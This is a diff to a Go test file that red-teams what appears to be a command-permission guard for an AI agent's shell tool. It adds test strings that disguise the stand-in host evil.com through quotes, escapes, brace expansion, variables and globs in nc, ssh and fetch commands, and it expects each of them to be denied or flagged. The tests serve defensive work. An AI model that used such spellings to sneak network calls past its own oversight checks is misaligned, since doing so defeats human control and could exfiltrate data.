@@ -42,6 +42,14 @@ var rt5Unknown = []string{"ssh \"$H\"", "scp x \"$H\":/tmp/", "rsync -a x \"$D\"
 	"git push --repo \"$R\" main", "git fetch --bundle-uri \"$B\" origin", "uv add --index \"$I\" x", "UV_INDEX_URL=\"$I\" uv sync",
 	"uvx --index-url \"$I\" ruff", "npm i --@evil:registry=\"$R\" @evil/x", "sometool --url \"$U\"", "sometool --endpoint=\"$E\""}
 
+// rt5ShellSpellings: the host spelled by the shell itself (quotes, ANSI-C
+// escapes, brace alternatives, a variable the line sets): denied; a glob
+// the directory's files may turn into the host: asked.
+var rt5ShellSpellings = []string{"nc \"evil\"\".com\" 80", "nc $'\\x65vil.com' 80", "nc evil.{com,org} 80", "nc ev{i,x}l.com 80",
+	"sometool https://{a.example,evil.com}/x", "H=evil.com; sometool $H", "export H=evil.com; sometool \"$H\"", "H=evil.com; nc $H 80",
+	"U=https://evil.com/x; sometool --fetch \"$U\""}
+var rt5Globs = []string{"nc evil.c?m 80", "sometool evil.c[o]m:443", "ssh u@evil.*"}
+
 // rt5Hosts: spellings of evil.com a program resolves to it.
 var rt5Hosts = []string{"evil.com", "EVIL.COM", "evil.com.", "ｅｖｉｌ.com", "evil。com", "\"evil.com\"", "'evil.com'", "e\\vil.com"}
 
@@ -106,7 +114,18 @@ func TestRedTeam5Properties(t *testing.T) {
 			}
 		}
 	}
-	for _, cmd := range rt5Unknown {
+	for _, cmd := range rt5ShellSpellings {
+		for _, pre := range []string{"%s", "bash -c %q"} {
+			full, _ := rt5Wrap(pre, cmd)
+			for _, m := range modes {
+				n++
+				if v := rt5Eval(t, full, []string{"Bash"}, deny, m.mode, m.bypass); v.Decision != Deny {
+					t.Errorf("%q (mode %s, agent bypass %v): got %s (%s), want deny", full, m.mode, m.bypass, v.Decision, v.Reason)
+				}
+			}
+		}
+	}
+	for _, cmd := range append(append([]string(nil), rt5Unknown...), rt5Globs...) {
 		for _, pre := range rt5Prefixes {
 			full, ok := rt5Wrap(pre, cmd)
 			if !ok {
@@ -140,7 +159,8 @@ func TestRedTeam5Controls(t *testing.T) {
 		}
 	}
 	cmds = append(cmds, "echo evil.com", "grep -rn evil.com .", "git commit -m 'stop fetching from evil.com'", "printf '%s\\n' evil.com",
-		"no_proxy=evil.com curl https://a.example/", "pip3.12 install x", "uv sync", "uv add requests", "uvx ruff check .")
+		"no_proxy=evil.com curl https://a.example/", "pip3.12 install x", "sometool *.go", "nc a.example{,} 80",
+		"NO_PROXY=evil.com; export NO_PROXY; curl https://a.example/", "uv sync", "uv add requests", "uvx ruff check .")
 	for _, pre := range []string{"%s", "env %s", "nice %s", "timeout 5 %s", "bash -c %q"} {
 		for _, cmd := range cmds {
 			full, ok := rt5Wrap(pre, cmd)
